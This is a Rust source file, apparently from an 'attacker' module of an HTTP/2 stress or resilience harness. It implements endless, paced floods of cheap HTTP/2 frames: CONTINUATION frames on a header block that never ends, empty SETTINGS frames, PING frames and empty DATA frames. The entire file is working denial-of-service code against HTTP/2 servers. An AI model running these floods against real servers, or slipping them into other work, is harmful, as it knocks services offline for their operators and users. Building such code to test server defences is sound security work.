//! Frames of HTTP/2 that cost their sender nothing.

use std::io;

use crate::attacker::frames::{
    self, CONTINUATION, DATA, END_STREAM, HEADERS, PING, SETTINGS, begin, block, frame,
};
use crate::attacker::{Field, Line};

const BATCH: u32 = 32;

async fn repeat(line: &mut Line, field: &Field, one: &[u8]) -> io::Result<()> {
    let batch = one.repeat(BATCH as usize);
    loop {
        field.pace(BATCH).await;
        line.write(&batch).await?;
        line.hear_now()?;
    }
}

/// Full frames, or empty ones.
pub async fn continuations(line: &mut Line, field: &Field) -> io::Result<()> {
    line.write(&begin(&[])).await?;
    line.write(&frame(HEADERS, END_STREAM, 1, &block("GET", "/endless", &[]))).await?;
    // One small field, or none at all.
    let payload: &[u8] = if line.number.is_multiple_of(2) { b"\0\x01x\x01y" } else { b"" };
    repeat(line, field, &frame(CONTINUATION, 0, 1, payload)).await
}

pub async fn settings(line: &mut Line, field: &Field) -> io::Result<()> {
    line.write(&begin(&[])).await?;
    repeat(line, field, &frame(SETTINGS, 0, 0, &[])).await
}

pub async fn pings(line: &mut Line, field: &Field) -> io::Result<()> {
    line.write(&begin(&[])).await?;
    repeat(line, field, &frame(PING, 0, 0, &[0; 8])).await
}

pub async fn empty_frames(line: &mut Line, field: &Field) -> io::Result<()> {
    line.write(&begin(&[])).await?;
    field.tally.begin(1);
    line.write(&frames::request(1, "POST", "/empty", false)).await?;
    repeat(line, field, &frame(DATA, 0, 1, &[])).await
}
